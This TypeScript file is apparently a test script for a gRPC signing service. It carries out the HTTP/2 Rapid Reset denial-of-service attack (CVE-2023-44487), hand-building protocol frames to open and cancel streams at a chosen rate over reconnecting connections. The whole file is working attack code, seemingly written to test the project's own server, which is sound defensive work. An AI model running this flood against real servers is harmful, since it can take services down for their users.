/**
 * An attacker (CVE-2023-44487): opens calls of SigningService.Sign with frames of its own making (RFC 9113) and resets each at once or a moment
 * later, at a rate, on connections that it opens again when they are closed. rapid-reset.ts PATH RATE SECONDS SPKI-SHA256 TOGETHER|LATER;
 * prints a line when it begins, and what it did as a line of JSON when it ends.
 */
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { SignRequest } from '../../src/gen/signet/v1/sign.js';
import { loadRequest } from './pipelined-client.js';

const [path = '', rate = '', seconds = '', spki = '', how = ''] = process.argv.slice(2);
const CONNECTIONS = 4;
const FRAME = { data: 0, headers: 1, reset: 3 } as const;
const END_STREAM = 1;
const END_HEADERS = 4;
const CANCEL = Buffer.from('00000008', 'hex');
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]);
const HEADERS = headers('/signet.v1.SigningService/Sign');
const MESSAGE = grpcMessage(loadRequest(Buffer.from(spki, 'hex'), 5_000));
const TICK_MS = 2;
/** Streams of a connection are numbered with odd numbers to here. */
const STREAM_MAX = 0x7fff_fffd;

const done = { calls: 0, connections: 0 };
console.log('attacking');
const endMs = performance.now() + Number(seconds) * 1000;
await Promise.all(Array.from({ length: CONNECTIONS }, () => attack(Number(rate) / CONNECTIONS)));
console.log(JSON.stringify(done));

async function attack(perSecond: number): Promise<void> {
  while (performance.now() < endMs) {
    const socket = connect(path);
    socket.on('error', () => undefined);
    const gone = once(socket, 'close').catch(() => undefined);
    socket.resume();
    await Promise.race([once(socket, 'connect').catch(() => undefined), gone]);
    if (socket.destroyed) continue;
    done.connections++;
    socket.write(PREFACE);
    await Promise.race([resetting(socket, perSecond), gone]);
    socket.destroy();
    await gone;
  }
}

/** Opens and resets streams until the time is over or the connection is closed. */
function resetting(socket: Socket, perSecond: number): Promise<void> {
  const beganMs = performance.now();
  let stream = 1;
  let sent = 0;
  return new Promise((resolve) => {
    const timer = setInterval(() => {
      const nowMs = performance.now();
      if (socket.destroyed || nowMs >= endMs || stream >= STREAM_MAX) {
        clearInterval(timer);
        return resolve();
      }
      const due = Math.floor(((nowMs - beganMs) * perSecond) / 1000);
      const opened: Buffer[] = [];
      const resets: Buffer[] = [];
      for (; sent < due; sent++, stream += 2) {
        opened.push(frame(FRAME.headers, END_HEADERS, stream, HEADERS), frame(FRAME.data, END_STREAM, stream, MESSAGE));
        resets.push(frame(FRAME.reset, 0, stream, CANCEL));
        done.calls++;
      }
      if (how === 'TOGETHER')
        socket.write(
          Buffer.concat(opened.flatMap((part, i) => (i % 2 === 1 ? [part, resets[i >> 1] as Buffer] : [part]))),
        );
      else {
        socket.write(Buffer.concat(opened));
        setTimeout(() => socket.write(Buffer.concat(resets)), TICK_MS);
      }
    }, TICK_MS);
  });
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header block without Huffman codes and without state (RFC 7541): two indexed fields, three names of the static table, one of its own. */
function headers(callPath: string): Buffer {
  const text = (value: string) => Buffer.concat([Buffer.of(value.length), Buffer.from(value)]);
  return Buffer.concat([
    Buffer.of(0x83, 0x86, 0x04),
    text(callPath),
    Buffer.of(0x01),
    text('signet'),
    Buffer.of(0x0f, 0x10),
    text('application/grpc'),
    Buffer.of(0x00),
    text('te'),
    text('trailers'),
  ]);
}

function grpcMessage(request: SignRequest): Buffer {
  const message = SignRequest.encode(request).finish();
  const head = Buffer.alloc(5);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}
